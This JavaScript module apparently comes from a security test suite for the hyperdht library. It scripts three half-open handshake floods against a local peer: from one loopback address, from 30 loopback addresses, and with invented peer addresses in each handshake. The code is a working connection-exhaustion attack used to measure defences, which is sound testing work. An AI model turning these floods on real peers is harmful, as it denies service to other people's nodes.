/** Strangers who begin handshakes with a native peer, straight at its address, and never finish one. */
import { randomInt } from 'node:crypto'
import { createRequire } from 'node:module'
import HyperDHT from 'hyperdht'

const NoiseWrap = createRequire(import.meta.url)('hyperdht/lib/noise-wrap.js')

const AT_ONCE = 60
const addresses = Array.from({ length: 30 }, (_, i) => `127.0.1.${i + 1}`)
/** Accepted handshakes until each address has had a place, and lost it. */
const WORN_OUT = 100

/** By name, as in the table of docs/security.md. */
export const HALF_OPEN_ATTACKS = {
  '60 handshakes at a time with a native peer of 16 places, none of them finished': (target) =>
    halfOpen(target, addresses.slice(0, 1), () => null),
  'the same handshakes from 30 addresses': (target) => halfOpen(target, addresses, () => null),
  'the same handshakes, each with an invented address': (target) => halfOpen(target, addresses.slice(0, 1), invented)
}

/** Resolves once the places have been taken, or, where others can take them, have changed hands a few times. */
async function halfOpen({ bootstrap, publicKey, port }, hosts, peerAddressOf) {
  let left = hosts.length > 1 ? WORN_OUT : 16
  const key = Buffer.from(publicKey, 'hex')
  await new Promise((resolve) => {
    for (const host of hosts) {
      const node = new HyperDHT({ bootstrap, host, ephemeral: true })
      const begin = async (id) => {
        const wrap = new NoiseWrap(HyperDHT.keyPair(), key)
        const message = { noise: wrap.send(offer(id)), peerAddress: peerAddressOf() }
        const reply = await node._router.peerHandshake(HyperDHT.hash(key), message, { host: '127.0.0.1', port })
        const { error } = await wrap.recv(reply.noise)
        if (error === 0 && --left === 0) resolve()
      }
      for (let i = 0; i < AT_ONCE / hosts.length; i++) again(begin)
    }
  })
}

async function again(begin) {
  for (let id = 1; ; id++) {
    await begin(id).catch(() => {})
    await new Promise((resolve) => setTimeout(resolve, 20))
  }
}

function offer(id) {
  const udx = { reusableSocket: false, id, seq: 0 }
  const none = { holepunch: null, relayThrough: null, relayAddresses: null }
  return { error: 0, firewall: 1, addresses4: [], addresses6: [], udx, secretStream: {}, ...none }
}

/** The address that the message names as that of the dialling peer. */
function invented() {
  return { host: `5.${randomInt(256)}.${randomInt(256)}.${randomInt(256)}`, port: 1000 }
}
